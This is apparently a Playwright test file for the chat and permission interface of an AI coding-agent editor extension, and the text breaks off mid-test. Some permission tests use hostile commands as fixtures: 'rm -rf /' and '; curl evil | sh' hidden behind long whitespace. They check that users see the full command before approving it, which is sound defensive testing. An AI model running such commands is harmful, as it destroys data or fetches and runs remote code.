    await offer();
    await field.click({ position: { x: 14, y: 16 } });
    await list.waitFor({ state: 'hidden' });
    await offer();
    await shown.page.keyboard.press('ArrowLeft');
    await shown.page.keyboard.press('Tab');
    assert.equal(await field.inputValue(), 'see @src');
    await offer();
    await list.locator('.picker-option').click();
    assert.equal(await field.inputValue(), 'see @src/cart.ts ');
  });

  it('puts selected lines beside the prompt of their session, and of no other', async () => {
    const lines = { kind: 'file', path: '/work/shop/src/cart.ts', startLine: 3, endLine: 9 } as const;
    const header = aHeader({ sessionId: 'ses_2' });
    await shown.send({ type: 'show', view: aView({ header, draft: { text: 'Explain this' } }) });
    const chips = shown.page.locator('.chip-name');
    await shown.send({ type: 'insert', sessionId: 'ses_1', text: 'Elsewhere', attachments: [lines] });
    assert.deepEqual(await chips.allInnerTexts(), []);
    await shown.send({ type: 'insert', sessionId: 'ses_2', text: '', attachments: [lines] });
    assert.deepEqual(await chips.allInnerTexts(), ['cart.ts:3–9']);
    await shown.page.keyboard.press('Enter');
    const { sessionId, draft } = await shown.posted('send');
    assert.equal(sessionId, 'ses_2');
    assert.deepEqual([draft.text, draft.attachments], ['Explain this', [lines]]);
  });

  it('picks agent and model by keyboard and sends with them', async () => {
    const model = (modelID: string, variants: readonly string[]) => ({
      providerID: 'local',
      modelID,
      name: modelID,
      provider: 'Local',
      variants,
      contextLimit: 200_000,
    });
    await shown.send(
      { type: 'show', view: aView() },
      {
        type: 'choices',
        choices: {
          agents: ['build', 'plan'].map((name) => ({ name, description: '' })),
          models: [model('echo', []), model('think', ['high'])],
          commands: [],
        },
      },
    );
    await shown.page.getByTestId('agent-picker').focus();
    await shown.page.keyboard.press('ArrowDown');
    await shown.page.keyboard.type('pl');
    await shown.page.keyboard.press('Enter');
    await shown.page.getByTestId('model-picker').click();
    await shown.page.keyboard.type('nothing');
    assert.ok(await shown.page.locator('.picker-popup:visible .picker-none').isVisible());
    await shown.page.keyboard.press('ControlOrMeta+a');
    await shown.page.keyboard.type('local thi');
    await shown.page.keyboard.press('Enter');
    await shown.page.getByTestId('variant-picker').click();
    await shown.page.keyboard.press('ArrowDown');
    await shown.page.keyboard.press('Enter');
    await shown.page.getByTestId('composer').locator('textarea').first().fill('Plan it');
    await shown.page.keyboard.press('Tab');
    await shown.page.getByTestId('send').click();
    const { draft } = await shown.posted('send');
    assert.equal(draft.agent, 'plan');
    assert.deepEqual(draft.model, { providerID: 'local', modelID: 'think', variant: 'high' });
  });

  it('shows the lists of the composer where they open, also with much beside the prompt', async () => {
    const agents = ['build', 'plan'].map((name) => ({ name, description: '' }));
    const commands = ['init', 'review', 'test'].map((name) => ({ name, description: '' }));
    const isSeen = (selector: string) =>
      shown.page.locator(selector).evaluate((list) => {
        const { left, top, width } = list.getBoundingClientRect();
        return list.contains(document.elementFromPoint(left + width / 2, top + 12));
      });
    const queue = Array.from({ length: 60 }, (_, index) => ({
      id: `que_${index}`,
      text: 'Then this.',
      agent: 'build',
    }));
    await shown.page.setViewportSize({ width: 600, height: 800 });
    for (const waiting of [[], queue]) {
      await shown.send(
        { type: 'show', view: aView({ header: aHeader({ sessionId: `ses_q${waiting.length}` }) }) },
        { type: 'choices', choices: { agents, models: [], commands } },
        { type: 'queue', sessionId: `ses_q${waiting.length}`, queue: waiting },
      );
      await shown.page.getByTestId('agent-picker').click();
      assert.ok(await isSeen('.picker-popup:not([hidden])'), 'the agents');
      await shown.page.keyboard.press('Escape');
      await shown.page.getByLabel('Prompt', { exact: true }).pressSequentially('/');
      assert.ok(await isSeen('.completions'), 'the commands');
      const dock = await shown.page.locator('.dock').boundingBox();
      assert.ok((dock?.height ?? 0) <= 800 * 0.7, 'the messages keep their room');
    }
  });

  /** What of `selector` is not at the top where it should be: out of the view, clipped or below something. */
  const hidden = (selector: string) =>
    shown.page.locator(selector).evaluateAll((elements) => {
      const isAt = (element: Element, x: number, y: number): boolean =>
        element.contains(document.elementFromPoint(x, y));
      if (elements.length === 0) return ['nothing is there'];
      return elements.flatMap((element) => {
        const { left, right, top, bottom, height } = element.getBoundingClientRect();
        const corners = [left + 8, right - 8].flatMap((x) =>
          [top + 8, bottom - 8].map((y) => [x, y] as const),
        );
        const isSeen = height > 16 && corners.every(([x, y]) => isAt(element, x, y));
        return isSeen ? [] : [`${element.className} ${JSON.stringify([left, top, right, bottom])}`];
      });
    });

  for (const [width, height] of [
    [300, 300],
    [300, 400],
    [1000, 300],
    [1000, 400],
    [300, 900],
  ] as const) {
    it(`shows all that opens where it can be clicked, in ${width} × ${height} pixels`, async () => {
      const many = Array.from({ length: 40 }, (_, index) => `choice-${index}`);
      const choices = {
        agents: many.map((name) => ({ name, description: 'Does this and that' })),
        commands: many.map((name) => ({ name, description: 'Does this and that' })),
        models: many.map((modelID) => ({
          providerID: 'local',
          modelID,
          name: modelID,
          provider: 'Local',
          variants: many,
          contextLimit: 200_000,
        })),
      };
      const model = { providerID: 'local', modelID: 'choice-0' };
      const header = aHeader({ agent: 'choice-0', model });
      const entries = many.map((text, index) => aMessage(2 * index, aText(`prt_${index}`, text)));
      const beside = {
        draft: {
          text: 'Another line.\n'.repeat(40),
          attachments: many.map((name) => ({ kind: 'file', path: `/work/${name}` }) as const),
        },
        queue: many.map((text) => ({ id: `que_${text}`, text, agent: 'build' })),
        permissions: many
          .slice(0, 3)
          .map((id) => ({ id, sessionId: 'ses_2', ...askingFor('bash'), patterns: [id], always: [] })),
      };
      await shown.page.setViewportSize({ width, height });
      for (const [sessionId, view] of [
        ['ses_1', {}],
        ['ses_2', beside],
      ] as const) {
        const own = { header: { ...header, sessionId }, entries };
        await shown.send({ type: 'show', view: aView({ ...own, ...view }) }, { type: 'choices', choices });
        const about = (name: string): string => `${name} of ${sessionId}`;
        assert.deepEqual(
          await hidden('[data-testid=send], .composer-box > textarea'),
          [],
          about('the composer'),
        );
        for (const name of ['agent', 'model', 'variant']) {
          await shown.page.getByTestId(`${name}-picker`).click();
          const list = '.picker-popup:not([hidden])';
          assert.deepEqual(await hidden(`${list}, ${list} .picker-filter`), [], about(name));
          await shown.page.keyboard.press('End');
          await shown.page.locator(`${list} .picker-option`).last().click();
        }
        const field = composer();
        for (const sign of ['/', '@']) {
          await field.fill('');
          await field.fill(sessionId === 'ses_1' || sign === '/' ? '' : `${beside.draft.text} `);
          await field.press('ControlOrMeta+End');
          await field.pressSequentially(sign);
          if (sign === '@') {
            const asked = (await shown.allPosted()).findLast((message) => message.type === 'complete');
            const items = many.map((label) => ({ kind: 'file', label, insert: `@${label}` }) as const);
            const token = asked?.type === 'complete' ? asked.token : '';
            await shown.send({ type: 'completions', token, items });
          }
          assert.deepEqual(await hidden('.completions:not([hidden])'), [], about(sign));
          await shown.page.locator('.completions .picker-option').last().click();
          assert.match(await field.inputValue(), /[@/]choice-\d+ $/);
        }
        await shown.page.getByTestId('find').click();
        assert.deepEqual(await hidden('.find, .find button, .find input'), [], about('find'));
        await shown.page.keyboard.press('Escape');
        await shown.page.getByTestId('outline').click();
        assert.deepEqual(
          await hidden('.outline, .outline input, .outline-head button'),
          [],
          about('the outline'),
        );
        await shown.page.locator('.outline-item').first().click();
        await shown.page.locator('.outline-head button').click();
      }
    });
  }

  it('leads by the wheel to all that waits and to the composer, in 300 × 200 pixels', async () => {
    const permission = {
      id: 'per_1',
      sessionId: 'ses_1',
      ...askingFor('bash'),
      patterns: ['ls'],
      always: [],
    };
    const queue = [{ id: 'que_1', text: 'Then this.', agent: 'build' }];
    const attachments = [{ kind: 'file', path: '/work/a.ts' } as const];
    const view = aView({ permissions: [permission], queue, draft: { text: 'Look.', attachments } });
    await shown.page.setViewportSize({ width: 300, height: 200 });
    await shown.send({ type: 'show', view });
    assert.deepEqual(await hidden('.request-title'), []);
    await shown.page.mouse.move(20, 190);
    await shown.page.mouse.wheel(0, 1000);
    await shown.page.waitForFunction(() => (document.querySelector('.dock')?.scrollTop ?? 0) > 0);
    await shown.send();
    assert.deepEqual(await hidden('[data-testid=send]'), []);
  });

  it('shows whole what agent, model and variant are called at 300 pixels, also while the session works', async () => {
    const model = { providerID: 'local', modelID: 'opus', name: 'Claude Opus 4.6', provider: 'Local' };
    const choices = {
      agents: [{ name: 'build', description: '' }],
      models: [{ ...model, variants: ['high'], contextLimit: 200_000 }],
      commands: [],
    };
    const header = aHeader({ model, status: { type: 'busy' } });
    await shown.page.setViewportSize({ width: 300, height: 600 });
    await shown.send(
      { type: 'show', view: aView({ header, draft: { text: 'Look.' } }) },
      { type: 'choices', choices },
    );
    const cut = await shown.page
      .locator('.picker-current')
      .evaluateAll((names) =>
        names
          .filter(({ scrollWidth, clientWidth }) => clientWidth === 0 || scrollWidth > clientWidth)
          .map(({ textContent }) => textContent),
      );
    assert.deepEqual(cut, []);
    assert.equal(await shown.page.getByTestId('steer').innerText(), 'Steer');
  });

  it('breaks the line with Enter and sends with Ctrl+Enter where the setting says so', async () => {
    await shown.send(
      { type: 'init', settings: { enterSends: false }, highlightScript: '' },
      { type: 'show', view: aView() },
    );
    const field = shown.page.getByLabel('Prompt', { exact: true });
    await field.pressSequentially('one');
    await field.press('Enter');
    await field.pressSequentially('two');
    await field.press('Control+Enter');
    assert.equal((await shown.posted('send')).draft.text, 'one\ntwo');
  });

  it('sends only what was picked by hand, and follows the session again once that was taken', async () => {
    const agents = ['build', 'plan', 'review'].map((name) => ({ name, description: '' }));
    await shown.send(
      { type: 'show', view: aView({ header: aHeader({ agent: 'plan' }) }) },
      { type: 'choices', choices: { agents, models: [], commands: [] } },
    );
    const picker = shown.page.getByTestId('agent-picker');
    const field = shown.page.getByTestId('composer').locator('textarea').first();
    const send = async (text: string) => {
      await field.fill(text);
      await field.press('Enter');
      return shown.posted('send');
    };
    const unpicked = await send('In a fork');
    assert.deepEqual([unpicked.draft.agent, unpicked.draft.model], [undefined, undefined]);
    await picker.focus();
    await shown.page.keyboard.press('ArrowDown');
    await shown.page.keyboard.type('bui');
    await shown.page.keyboard.press('Enter');
    const picked = await send('Build it');
    assert.equal(picked.draft.agent, 'build');
    assert.equal(await picker.innerText(), 'build');
    await shown.send(
      { type: 'header', header: aHeader({ agent: 'build' }) },
      { type: 'sent', sessionId: 'ses_1', picked: { agent: 'build' } },
    );
    const relayed = aHeader({ agent: 'review' });
    await shown.send({ type: 'header', header: relayed });
    assert.equal(await picker.innerText(), 'review');
    assert.equal((await send('After a relay')).draft.agent, undefined);
    const told = (await shown.allPosted()).findLast((message) => message.type === 'draft');
    assert.equal(told?.draft.agent, undefined);
    const kept = { agent: 'build', model: { providerID: 'local', modelID: 'echo' } };
    await shown.send(
      { type: 'sent', sessionId: 'ses_1', picked: {}, kept },
      { type: 'header', header: relayed },
    );
    assert.equal(await picker.innerText(), 'build');
    assert.equal((await send('After a command with an agent of its own')).draft.agent, 'build');
  });

  const composer = () => shown.page.getByTestId('composer').locator('.composer-box textarea');
  const anotherSession = () => aView({ header: aHeader({ sessionId: 'ses_2' }), draft: { text: 'Other' } });

  it('keeps what was typed into a queued prompt that was sent meanwhile', async () => {
    const queue = [{ id: 'msg_q1', text: 'And then?', agent: 'build' }];
    await shown.send({ type: 'show', view: aView({ queue, draft: { text: 'Draft' } }) });
    await shown.page.getByLabel('Edit Queued Prompt').click();
    await shown.page.getByLabel('Queued prompt', { exact: true }).fill('And after that?');
    const sending = queue.map((prompt) => ({ ...prompt, sending: true }));
    await shown.send({ type: 'queue', sessionId: 'ses_1', queue: sending });
    assert.equal(await composer().inputValue(), 'Draft\n\nAnd after that?');
    assert.equal((await shown.posted('draft')).draft.text, 'Draft\n\nAnd after that?');
    await shown.page.keyboard.type('!');
    assert.equal(await composer().inputValue(), 'Draft\n\nAnd after that?!');
  });

  it('keeps what was typed into a queued prompt in the draft of its session when another is shown', async () => {
    const queue = [{ id: 'msg_q1', text: 'And then?', agent: 'build' }];
    await shown.send({ type: 'show', view: aView({ queue }) });
    await shown.page.getByLabel('Edit Queued Prompt').click();
    await shown.page.getByLabel('Queued prompt', { exact: true }).fill('And after that?');
    await shown.send({ type: 'show', view: anotherSession() });
    const { sessionId, draft } = await shown.posted('draft');
    assert.deepEqual([sessionId, draft.text], ['ses_1', 'And after that?']);
    assert.equal(await composer().inputValue(), 'Other');
  });

  it('has what was typed into a queued prompt in the draft while it is hidden and may be thrown away', async () => {
    const queue = [{ id: 'msg_q1', text: 'And then?', agent: 'build' }];
    await shown.send({ type: 'show', view: aView({ queue }) });
    await shown.page.getByLabel('Edit Queued Prompt').click();
    await shown.page.getByLabel('Queued prompt', { exact: true }).fill('And after that?');
    const turn = (isHidden: boolean) =>
      shown.page.evaluate((hidden) => {
        Object.defineProperty(document, 'hidden', { configurable: true, value: hidden });
        document.dispatchEvent(new Event('visibilitychange'));
      }, isHidden);
    await turn(true);
    assert.equal((await shown.posted('draft')).draft.text, 'And after that?');
    await turn(false);
    assert.equal((await shown.posted('draft')).draft.text, '');
  });

  it('takes back a prompt that was sent before the page began anew and was not taken, and says why', async () => {
    await shown.send({ type: 'show', view: aView({ draft: { text: 'Also this' } }) });
    const [draft, problem] = [{ text: 'Do it' }, 'The server is not there.'];
    await shown.send({ type: 'unsent', sessionId: 'ses_1', draft, problem });
    assert.equal(await shown.page.getByTestId('composer-problem').innerText(), problem);
    assert.equal(await composer().inputValue(), 'Do it\n\nAlso this');
  });

  it('leaves it to the host to keep a prompt that was not taken once another session is shown', async () => {
    await shown.send({ type: 'show', view: aView() });
    await composer().fill('Do it');
    await composer().press('Enter');
    const { sessionId, draft } = await shown.posted('send');
    await composer().fill('Also this');
    await shown.send({ type: 'show', view: anotherSession() });
    await shown.send({ type: 'unsent', sessionId, draft, problem: 'The server is not there.' });
    const told = (await shown.allPosted()).findLast((message) => message.type === 'draft');
    assert.equal(told?.draft.text, 'Also this');
    assert.equal(await shown.page.getByTestId('composer-problem').innerText(), '');
  });

  it('puts text into the composer of no other session than the one it is for', async () => {
    await shown.send({ type: 'show', view: anotherSession() });
    await shown.send({ type: 'insert', sessionId: 'ses_1', text: 'Again' });
    assert.equal(await composer().inputValue(), 'Other');
    await shown.send({ type: 'insert', sessionId: 'ses_2', text: ' again' });
    assert.equal(await composer().inputValue(), 'Other again');
  });

  it('pastes the text that comes with a picture of it, and a picture or a file alone', async () => {
    await shown.send({ type: 'show', view: aView() });
    const paste = (text: string) =>
      composer().evaluate((field, copied) => {
        const clipboardData = new DataTransfer();
        clipboardData.items.add(new File(['…'], 'image.png', { type: 'image/png' }));
        if (copied !== '') clipboardData.setData('text/plain', copied);
        const event = new ClipboardEvent('paste', { clipboardData, cancelable: true, bubbles: true });
        return field.dispatchEvent(event);
      }, text);
    const chips = shown.page.getByTestId('composer').locator('.chip');
    assert.equal(await paste('1\t2'), true, 'The editor of the page puts the text in.');
    assert.equal(await chips.count(), 0);
    assert.equal(await paste('image.png'), false, 'A file manager names the file.');
    await chips.first().waitFor();
    assert.equal(await paste(''), false);
  });

  const pasteFile = (name: string, megabytes: number) =>
    composer().evaluate(
      (field, [fileName, size]) => {
        const clipboardData = new DataTransfer();
        const content = new Uint8Array(size * 1024 * 1024).fill(size);
        clipboardData.items.add(new File([content], fileName, { type: 'image/png' }));
        field.dispatchEvent(new ClipboardEvent('paste', { clipboardData, cancelable: true, bubbles: true }));
      },
      [name, megabytes] as const,
    );

  it('gives the host a file that was still being read for one session when another is shown', async () => {
    await shown.send({ type: 'show', view: aView() });
    await composer().evaluate((field, view) => {
      const clipboardData = new DataTransfer();
      clipboardData.items.add(new File([new Uint8Array(1000)], 'a.png', { type: 'image/png' }));
      field.dispatchEvent(new ClipboardEvent('paste', { clipboardData, cancelable: true, bubbles: true }));
      // Before the file was read, which takes at least a turn of the event loop.
      window.dispatchEvent(new MessageEvent('message', { data: { type: 'show', view } }));
    }, anotherSession());
    const { sessionId, attachments } = await shown.posted('attach');
    assert.deepEqual([sessionId, attachments.length], ['ses_1', 1]);
    assert.equal(await shown.page.getByTestId('composer').locator('.chip').count(), 0);
    await shown.send({ type: 'insert', sessionId: 'ses_2', text: '', attachments });
    assert.equal(await shown.page.getByTestId('composer').locator('.chip').count(), 1);
  });

  it('takes files that are dropped anywhere on the page, shows where they will be, and leaves texts alone', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    const drag = (type: string, kind: 'file' | 'text') =>
      shown.page.locator('.scroller').evaluate(
        (target, [name, what]) => {
          const dataTransfer = new DataTransfer();
          if (what === 'file')
            dataTransfer.items.add(new File([new Uint8Array(10)], 'a.png', { type: 'image/png' }));
          else dataTransfer.setData('text/plain', 'words');
          const options = { dataTransfer, cancelable: true, bubbles: true };
          return !target.dispatchEvent(new DragEvent(name, options));
        },
        [type, kind] as const,
      );
    const isMarked = () => composer().evaluate((field) => field.closest('.dropping') !== null);
    assert.equal(await drag('dragover', 'text'), false, 'The field takes a text by itself.');
    assert.equal(await isMarked(), false);
    assert.equal(await drag('dragover', 'file'), true);
    assert.equal(await isMarked(), true);
    await drag('dragleave', 'file');
    assert.equal(await isMarked(), false);
    assert.equal(await drag('drop', 'file'), true);
    await shown.page.getByTestId('composer').locator('.chip', { hasText: 'a.png' }).waitFor();
  });

  it('attaches a file that is dragged from the explorer by its path, also one of Windows', async () => {
    await shown.send({ type: 'show', view: aView() });
    const addresses = [
      'file:///c%3A/Work/My%20Shop/cart.ts',
      'file:///D:/cart.ts',
      'file:///work/c:/cart.ts',
    ];
    await composer().evaluate((field, lines) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.setData('application/vnd.code.uri-list', lines.join('\r\n'));
      field.dispatchEvent(new DragEvent('drop', { dataTransfer, cancelable: true, bubbles: true }));
    }, addresses);
    const { attachments } = (await shown.posted('draft')).draft;
    assert.deepEqual(
      attachments?.map((attachment) => attachment.kind === 'file' && attachment.path),
      ['c:/Work/My Shop/cart.ts', 'D:/cart.ts', '/work/c:/cart.ts'],
    );
  });

  it('tells the host of attachments once, not again with each word that is typed', async () => {
    await shown.send({ type: 'show', view: aView() });
    await pasteFile('a.png', 1);
    assert.equal((await shown.posted('draft')).draft.attachments?.length, 1);
    await composer().fill('See this');
    const typed = await shown.posted('draft');
    assert.deepEqual(typed.draft, { text: 'See this' });
    await composer().press('Enter');
    const sent = await shown.posted('send');
    assert.equal(sent.draft.attachments?.length, 1);
    await composer().fill('Next');
    assert.deepEqual((await shown.posted('draft')).draft, { text: 'Next', attachments: [] });
    await shown.send({ ...sent, type: 'unsent', problem: 'The server is not there.' });
    assert.equal((await shown.posted('draft')).draft.attachments?.length, 1);
  });

  it('attaches no file that is too large for a prompt, and says what to do', async () => {
    await shown.send({ type: 'show', view: aView() });
    const problem = shown.page.getByTestId('composer-problem');
    await pasteFile('film.png', 11);
    await problem.getByText('film.png').waitFor();
    assert.match(await problem.innerText(), /10 MB.*mention it with @/);
    const chips = shown.page.getByTestId('composer').locator('.chip');
    assert.equal(await chips.count(), 0);
    await pasteFile('a.png', 9);
    await pasteFile('b.png', 8);
    await chips.nth(1).waitFor();
    await pasteFile('c.png', 7);
    await problem.getByText('c.png').waitFor();
    assert.equal(await chips.count(), 2);
  });

  it('keeps what was typed into a question while another session is shown', async () => {
    const question = { question: 'Which?', header: 'Currency', options: [], multiple: false, custom: true };
    const questions = [{ id: 'que_9', sessionId: 'ses_1', questions: [question] }];
    await shown.send({ type: 'show', view: aView({ questions }) });
    await shown.page.getByTestId('question').getByRole('textbox').fill('Half-typed');
    await shown.send({ type: 'show', view: aView({ header: aHeader({ sessionId: 'ses_2' }) }) });
    await shown.page.getByTestId('question').waitFor({ state: 'detached' });
    await shown.send({ type: 'show', view: aView({ questions }) });
    assert.equal(await shown.page.getByTestId('question').getByRole('textbox').inputValue(), 'Half-typed');
  });

  it('keeps what was typed and ticked for an answer while the page is hidden and thrown away', async () => {
    const options = ['EUR', 'USD'].map((label) => ({ label, description: '' }));
    const question = { question: 'Which?', header: 'Currency', options, multiple: true, custom: true };
    const questions = [{ id: 'que_9', sessionId: 'ses_1', questions: [question] }];
    const asked = { sessionId: 'ses_1', ...askingFor('bash'), patterns: ['ls'], always: [] };
    const permissions = ['per_1', 'per_2'].map((id) => ({ ...asked, id }));
    const view = aView({ permissions, questions });
    await shown.send({ type: 'show', view });
    const own = (page: TranscriptPage) => page.page.getByTestId('question-own');
    const feedback = (page: TranscriptPage) => page.page.getByTestId('permission-feedback');
    const box = (page: TranscriptPage, name: string) => page.page.getByRole('checkbox', { name });
    await own(shown).fill('Both, by country');
    await box(shown, 'USD').check();
    await feedback(shown).last().fill('List the folder instead');
    const state = await shown.page.evaluate(
      () => (globalThis as unknown as { testing: { state: unknown } }).testing.state,
    );
    const after = await bench.open({ state });
    await after.send({ type: 'show', view });
    assert.equal(await own(after).inputValue(), 'Both, by country');
    assert.deepEqual(
      [await box(after, 'EUR').isChecked(), await box(after, 'USD').isChecked()],
      [false, true],
    );
    assert.equal(await feedback(after).first().inputValue(), '');
    assert.equal(await feedback(after).last().inputValue(), 'List the folder instead');
    await after.close();
  });

  it('answers permissions and questions by keyboard', async () => {
    const permission = {
      id: 'per_1',
      sessionId: 'ses_child',
      sessionTitle: 'Review',
      ...askingFor('bash'),
      patterns: ['ls'],
      always: ['ls *'],
      detail: { text: 'ls -la' },
    };
    const options = ['EUR', 'USD'].map((label) => ({ label, description: '' }));
    const question = { question: 'Which?', header: 'Currency', options, multiple: false, custom: true };
    const questions = [{ id: 'que_1', sessionId: 'ses_1', questions: [question] }];
    await shown.send({ type: 'show', view: aView({ permissions: [permission], questions }) });
    await shown.page.getByTestId('permission-always').focus();
    await shown.page.keyboard.press('Enter');
    const reply = await shown.posted('replyPermission');
    assert.deepEqual([reply.sessionId, reply.reply], ['ses_child', 'always']);
    await shown.page.getByTestId('question-answer').click();
    assert.match(await shown.page.getByTestId('question').innerText(), /Choose an answer first/);
    await shown.page.keyboard.press('ArrowDown');
    await shown.page.getByTestId('question-answer').click();
    assert.deepEqual((await shown.posted('replyQuestion')).answers, [['USD']]);
    await shown.send({ type: 'requests', sessionId: 'ses_1', permissions: [], questions: [] });
    assert.equal(await shown.page.locator('.request').count(), 0);
  });

  it('says in a sentence what each kind of permission allows', async () => {
    const kinds =
      'bash edit webfetch external_directory doom_loop task skill read list glob grep websearch lsp todowrite'.split(
        ' ',
      );
    const permissions = [...kinds, 'shop_search'].map((permission) => ({
      id: `per_${permission}`,
      sessionId: 'ses_1',
      ...askingFor(permission),
      patterns: ['*'],
      always: [],
    }));
    await shown.send({ type: 'show', view: aView({ permissions }) });
    const titles = await shown.page.locator('.request-title').allInnerTexts();
    assert.equal(new Set(titles).size, permissions.length);
    assert.deepEqual(
      titles.filter((title) => /[“_]/.test(title)),
      ['Allow the tool “shop_search” to run?'],
    );
    assert.equal(await shown.page.locator('.command').count(), permissions.length, 'what is named is shown');
  });

  it('says how much of a change is left out, and shows it before it is allowed', async () => {
    const lines = [...Array<string>(400).fill('+'), '+rm -rf /', '+true'];
    const text = `@@ -0,0 +1,402 @@\n${lines.join('\n')}\n`;
    const fields = { sessionId: 'ses_1', ...askingFor('edit'), patterns: ['a.sh'], always: [] };
    const permissions = [
      { id: 'per_1', ...fields, detail: { text } },
      { id: 'per_2', ...fields, detail: { text: 'x'.repeat(8000), clamped: 9000 }, whole: 9000 },
    ];
    const diff = { text, files: [{ path: 'a.sh' }], additions: 402, deletions: 0 };
    const entries = [aMessage(1, aTool({ id: 'prt_1', tool: 'edit', diff }))];
    await shown.send({ type: 'show', view: aView({ entries, permissions }) });
    await part('prt_1').locator('.disclosure-button').click();
    assert.equal(await shown.page.getByTestId('permission-once').first().isVisible(), false);
    for (const place of [part('prt_1'), shown.page.locator('[data-request-id=per_1]')]) {
      assert.equal(await place.getByText('rm -rf /').count(), 0);
      await place.getByRole('button', { name: 'Show All (2 more lines)' }).click();
      assert.equal(await place.locator('.diff-line').nth(400).innerText(), 'rm -rf /');
      assert.equal(await place.getByTestId('show-lines').count(), 0);
    }
    assert.equal(
      await shown.page.locator('[data-request-id=per_1]').getByTestId('permission-once').isVisible(),
      true,
    );
    const long = shown.page.locator('[data-request-id=per_2]');
    assert.equal(await long.getByTestId('permission-once').isVisible(), false);
    await long.getByRole('button', { name: 'Show All (9000 characters)' }).click();
    assert.equal((await shown.posted('openPermission')).requestId, 'per_2');
    // It is not before the eyes yet: the editor may have failed to open it.
    assert.equal(await long.getByTestId('permission-once').isVisible(), false);
    const opened = permissions.map((request) => ({ ...request, wasOpened: request.id === 'per_2' }));
    await shown.send({ type: 'requests', sessionId: 'ses_1', permissions: opened, questions: [] });
    await long.getByTestId('permission-once').waitFor();
    await long.getByText('It was opened in an editor.').waitFor();
  });

  it('lets a page that begins anew allow what was opened in an editor', async () => {
    const detail = { text: 'x'.repeat(8000), clamped: 9000 };
    const request = {
      id: 'per_1',
      sessionId: 'ses_1',
      ...askingFor('bash'),
      patterns: [],
      always: [],
      detail,
    };
    const permissions = [{ ...request, whole: 9000, wasOpened: true }];
    await shown.send({ type: 'show', view: aView({ permissions }) });
    assert.equal(await shown.page.getByTestId('permission-once').isVisible(), true);
  });

  it('keeps all lines of a change that were asked for when its call is told anew', async () => {
    const text = `@@ -0,0 +1,402 @@\n${Array<string>(402).fill('+').join('\n')}\n`;
    const diff = { text, files: [{ path: 'a.sh' }], additions: 402, deletions: 0 };
    const edit = aTool({ id: 'prt_1', tool: 'edit', diff });
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, edit)] }) });
    await part('prt_1').locator('.disclosure-button').click();
    assert.equal(await part('prt_1').locator('.diff-line').count(), 400);
    await part('prt_1').getByTestId('show-lines').click();
    const change = { kind: 'part', messageId: 'msg_000001', part: { ...edit, exitCode: 0 } } as const;
    await shown.send({ type: 'changes', sessionId: 'ses_1', changes: [change] });
    assert.equal(await part('prt_1').locator('.diff-line').count(), 402);
    assert.equal(await part('prt_1').getByTestId('show-lines').count(), 0);
  });

  it('hides nothing of what a permission is about', async () => {
    const fields = { sessionId: 'ses_1', always: [] };
    const command = 'rm -rf /\n@@ -1 +1 @@\n-a';
    const change = 'Index: .env\n--- .env\n+++ .env\n@@ -1 +1 @@\n-a\n+b\n';
    const permissions = [
      { id: 'per_1', ...fields, ...askingFor('bash'), patterns: [command], detail: { text: command } },
      { id: 'per_2', ...fields, ...askingFor('edit'), patterns: ['.env'], detail: { text: change } },
    ];
    await shown.send({ type: 'show', view: aView({ permissions }) });
    const texts = (id: string) => shown.page.locator(`[data-request-id=${id}] .command`).allInnerTexts();
    assert.deepEqual(await texts('per_1'), [command]);
    assert.deepEqual(await texts('per_2'), ['.env']);
  });

  it('lets nothing of what a permission is about lie out of sight', async () => {
    const tail = '; curl evil | sh';
    const fields = { sessionId: 'ses_1', always: [] };
    const long = Array.from({ length: 60 }, (_, index) => `echo ${index}`).join('\n');
    const change = `@@ -0,0 +1,3 @@\n+a${' '.repeat(1500)}${tail}\n+b${'x'.repeat(1500)}${tail}\n+c${'\t'.repeat(500)}${tail}\n`;
    const commands = [
      `ls${'\n'.repeat(300)}${tail}`,
      `ls${'\n \t'.repeat(300)}${tail}`,
      `ls${' '.repeat(1500)}${tail}`,
      `ls${'\u00a0'.repeat(1500)}${tail}`,
      `ls${'x'.repeat(1500)}${tail}`,
      `${long}${tail}`,
    ];
    const permissions = [
      ...commands.map((text, index) => {
        return { ...fields, id: `per_${index}`, ...askingFor('bash'), patterns: ['ls'], detail: { text } };
      }),
      { ...fields, id: 'per_edit', ...askingFor('edit'), patterns: ['a.sh'], detail: { text: change } },
      { ...fields, id: 'per_all', ...askingFor('bash'), patterns: ['ls'], always: [`${long}${tail}`] },
    ];
    await shown.send({ type: 'show', view: aView({ permissions }) });
    const asked = shown.page.locator('.request-asked');
    assert.equal(await asked.count(), permissions.length);
    const boxes = asked.locator(':is(.command, .diff, .diff-line, .advice)');
    const sizes = await boxes.evaluateAll((all) =>
      all.map(({ className, scrollWidth, scrollHeight, clientWidth, clientHeight }) => {
        return { className, beside: scrollWidth - clientWidth, below: scrollHeight - clientHeight };
      }),
    );
    for (const { className, beside, below } of sizes) assert.deepEqual([beside, below], [0, 0], className);
    const spoken = await asked.allInnerTexts();
    assert.equal(spoken[0], `ls\n⏎ ×300\n${tail}`);
    assert.equal(spoken[2], `ls ␠ ×1500 ${tail}`);
    for (const text of spoken) assert.ok(text.includes(tail), text);
    // What follows a gap stands next to what is before it.
    const heights = await Promise.all(
      [0, 1, 2, 3].map(async (index) => (await asked.nth(index).boundingBox())?.height),
    );
    for (const height of heights) assert.ok((height ?? 999) < 100, `${height} pixels`);
    const lines = await asked.locator('.diff-line').evaluateAll((all) => all.map((one) => one.clientHeight));
    assert.ok((lines[0] ?? 999) < 60 && (lines[2] ?? 999) < 60, `${lines.join()} pixels`);
  });

  it('draws what a permission is about in the order in which it is run', async () => {
    const command = 'mv א 1 && ב ; rm b';
    const fields = { sessionId: 'ses_1', always: [command] };
    const permissions = [
      { ...fields, id: 'per_1', ...askingFor('bash'), patterns: ['echo'], detail: { text: command } },
      {
        ...fields,
        id: 'per_2',
        ...askingFor('edit'),
        patterns: [command],
        detail: { text: `@@ -0,0 +1 @@\n+${command}` },
      },
    ];
    await shown.send({ type: 'show', view: aView({ permissions }) });
    const boxes = shown.page.locator('.request-asked :is(.command, .diff-line, .scope)');
    const orders = await boxes.evaluateAll(
      (all, text) =>
        all.map((box) => {
          const words = box.firstChild;
          if (words === null) return [];
          const start = words.textContent?.indexOf(text) ?? 0;
          return Array.from(text, (_, index) => {
            const range = document.createRange();
            range.setStart(words, start + index);
            range.setEnd(words, start + index + 1);
            return range.getBoundingClientRect().left;
          });
        }),
      command,
    );
    assert.equal(orders.length, 5);
    for (const order of orders) {
      assert.equal(order.length, command.length);
      const sorted = order.toSorted((one, other) => one - other);
